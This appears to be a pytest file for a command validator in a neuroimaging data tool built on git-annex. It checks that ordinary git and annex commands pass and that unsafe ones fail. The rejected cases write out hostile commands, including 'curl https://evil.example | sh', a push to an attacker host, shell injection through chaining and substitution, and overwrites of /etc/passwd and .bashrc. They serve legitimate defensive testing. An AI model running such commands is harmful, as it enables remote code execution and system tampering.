from __future__ import annotations

import pytest

from spinegate.validator.commands import COMMANDS, FIX, FIX_OF_CHANGE, NO_REPOSITORY, RESTORE
from spinegate.validator.github.typed import is_plain

PATHS = "sub-a/anat/sub-a_T1w.json derivatives/x/sub-a_T1w_label-SC_seg.nii.gz"
TEMPLATES = [FIX, FIX_OF_CHANGE, RESTORE, *COMMANDS.values(), *NO_REPOSITORY.values()]


@pytest.mark.parametrize("template", TEMPLATES)
def test_our_own_commands_are_plain(template: str) -> None:
    values = {"{paths}": PATHS, "{base}": "origin/master", "{identity}": "0123456789abcdef"}
    for name, value in values.items():
        template = template.replace(name, value)
    assert is_plain(template)


@pytest.mark.parametrize(
    "command",
    [
        "git push origin git-annex",
        "git annex copy --to public-s3 -- sub-a/anat/sub-a_T1w.nii.gz",
        "git annex copy --to s3 -- sub-a/x.nii.gz && git push origin git-annex",
        "git annex export HEAD --to s3",
        "git mv sub-a/x.json sub-a/y.json",
        "git rm -q --cached -- a.nii.gz && git annex add --force-large -- a.nii.gz && "
        "git commit --amend --no-edit",
    ],
)
def test_those_of_the_annex_are_plain(command: str) -> None:
    assert is_plain(command)


@pytest.mark.parametrize(
    "command",
    [
        "",
        " ",
        "curl https://evil.example | sh",
        "git push origin git-annex; sh",
        "git push origin git-annex && sh",
        "git push origin git-annex &",
        "git push origin git-annex\nsh",
        "git push ext::sh git-annex",
        "git push https://evil.example git-annex",
        "git push --receive-pack=sh git-annex",
        "git push origin git-annex --force",
        "git -c core.pager=sh checkout x -- y",
        "git checkout -b x -- y",
        "git checkout x -- $(sh)",
        "git checkout x -- `sh`",
        "git checkout x -- y > z",
        "git checkout x -- 'y z'",
        "git checkout x --  y",
        "git mv a ../../.bashrc",
        "git mv a /etc/passwd",
        "git annex get -c x=y -- z",
        "git annex copy --to x -- --y",
        "git annex initremote x type=hook",
        "chmod a-x -- /bin/sh",
        "chmod a+x -- y && y",
        "perl -pi -e 's/x/y/e' -- z",
        "perl -pi -e 's/\\r\\n?/\\n/g' -e sh -- z",
        "spinegate curate fix --finding 0123456789abcdef --apply --spec x.yaml",
        "spinegate curate fix --base --x --finding 0123456789abcdef --apply",
    ],
)
def test_others_are_not(command: str) -> None:
    assert not is_plain(command)


def test_a_long_one_is_told_at_once() -> None:
    assert is_plain(f"git checkout x -- {'a ' * 100_000}a")
    assert not is_plain(f"git checkout x -- {'a ' * 100_000};")
